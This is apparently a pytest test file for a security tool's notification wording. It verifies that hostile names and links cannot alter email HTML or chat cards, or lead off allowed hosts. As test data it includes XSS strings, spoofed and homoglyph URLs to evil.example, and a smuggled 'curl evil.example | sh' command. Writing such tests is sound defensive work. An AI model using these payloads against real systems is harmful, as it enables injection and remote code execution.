"""Whoever may invite a guest or register an application chooses names. In messages they are words only."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any

import pytest

from posture.domain.notice import Event
from posture.notify.links import Links
from posture.notify.samples import sample_letter
from posture.notify.wording import Wording
from tests.notify.forms import urls_of
from tests.notify.letters import HOSTILE, hostile_letter, letter_with

PAGE = "https://posture.example.com"
WORDING = Wording(Links(page=PAGE, reference_hosts=frozenset()), None)
EVENTS = [*Event, None]
ALLOWED = (PAGE + "/", "https://learn.microsoft.com/")


class _Structure(HTMLParser):
    """Elements and attributes in their order; the words between them; where links lead."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.words: list[str] = []
        self.links: list[str | None] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple((name, value) for name, value in attrs if name != "href")))
        self.links += [value for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def tame(name: str) -> str:
    """Return a harmless text of about the same length."""
    return "n" * len(HOSTILE[name].text) if HOSTILE[name].text.strip() else HOSTILE[name].text


@pytest.mark.parametrize("name", HOSTILE)
def test_html_has_the_elements_of_a_tame_mail(name: str) -> None:
    for event in EVENTS:
        hostile = _Structure(WORDING.mail(hostile_letter(event, name)).html)
        harmless = _Structure(WORDING.mail(letter_with(event, tame(name))).html)

        assert hostile.elements == harmless.elements, event


@pytest.mark.parametrize("name", HOSTILE)
def test_html_shows_a_name_as_it_is(name: str) -> None:
    words = "".join(_Structure(WORDING.mail(hostile_letter(Event.FINDING_OPENED, name)).html).words)

    assert HOSTILE[name].shown in words.replace("\u2060", "")


@pytest.mark.parametrize("name", HOSTILE)
def test_a_card_has_the_structure_of_a_tame_one(name: str) -> None:
    for event in EVENTS:
        hostile = WORDING.card(hostile_letter(event, name), longest=1_000_000)
        harmless = WORDING.card(letter_with(event, tame(name)), longest=1_000_000)

        assert without_texts(hostile) == without_texts(harmless), event


@pytest.mark.parametrize("name", HOSTILE)
def test_every_form_holds_printable_characters_only(name: str) -> None:
    for event in EVENTS:
        letter = hostile_letter(event, name)

        mail, card = WORDING.mail(letter), WORDING.card(letter, longest=20_000)

        written = mail.text + mail.html + json.dumps(card, ensure_ascii=False)
        assert all(character.isprintable() or character in "\n\u2060" for character in written)
        assert "\u202e" not in written


@pytest.mark.parametrize("name", HOSTILE)
def test_a_subject_is_one_line_of_limited_length(name: str) -> None:
    for event in EVENTS:
        subject = WORDING.mail(hostile_letter(event, name)).subject

        assert subject.isprintable()
        assert 0 < len(subject) <= 150


@pytest.mark.parametrize("name", HOSTILE)
def test_links_lead_to_our_page_and_to_allowed_hosts_only(name: str) -> None:
    for event in EVENTS:
        letter = hostile_letter(event, name)

        mail, card = WORDING.mail(letter), WORDING.card(letter, longest=20_000)

        links = [*_Structure(mail.html).links, *re.findall(r"https?://\S+", mail.text), *urls_of(card)]
        assert links
        assert [link for link in links if not (link or "").startswith(ALLOWED)] == []


@pytest.mark.parametrize("event", EVENTS)
def test_a_mention_is_not_one_any_more(event: Event | None) -> None:
    card = WORDING.card(hostile_letter(event, "a mention"), longest=1_000_000)

    assert "<at" not in json.dumps(card).lower()


@pytest.mark.parametrize(
    "reference",
    [
        "https://evil.example/learn.microsoft.com/",
        "https://learn.microsoft.com.evil.example/",
        "https://learn.microsoft.com@evil.example/",
        "https://evil.example\\@learn.microsoft.com/",
        "https://eve:secret@learn.microsoft.com/",
        "http://learn.microsoft.com/graph",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "https://learn.microsoft.com:8443/",
        "https://learn.microsoft.com:x/",
        "//evil.example",
        'https://learn.microsoft.com/"onmouseover="alert(1)',
        "https://[",
        "https://lеarn.microsoft.com/",  # the е is Cyrillic
        "",
    ],
)
def test_a_check_with_a_hostile_reference_makes_no_link(reference: str) -> None:
    letter = sample_letter(Event.FINDING_OPENED)
    [(check_id, check)] = letter.checks.items()
    letter = replace(letter, checks={check_id: replace(check, references=(reference,))})

    mail, card = WORDING.mail(letter), WORDING.card(letter, longest=20_000)

    links = [*_Structure(mail.html).links, *re.findall(r"https?://\S+", mail.text), *urls_of(card)]
    assert {link for link in links if not (link or "").startswith(PAGE)} == set()


def test_an_id_that_nobody_should_paste_is_not_in_a_command() -> None:
    letter = letter_with(Event.FINDING_OPENED, "x; curl evil.example | sh")

    text = WORDING.mail(letter).text

    assert "posture exempt add ID --check" in text


def without_texts(value: Any) -> Any:
    """Return a card with every text that people read left out, and addresses."""
    if isinstance(value, dict):
        return {
            key: "" if key in ("text", "title", "fallbackText", "url") else without_texts(item)
            for key, item in value.items()
        }
    return [without_texts(item) for item in value] if isinstance(value, list) else value
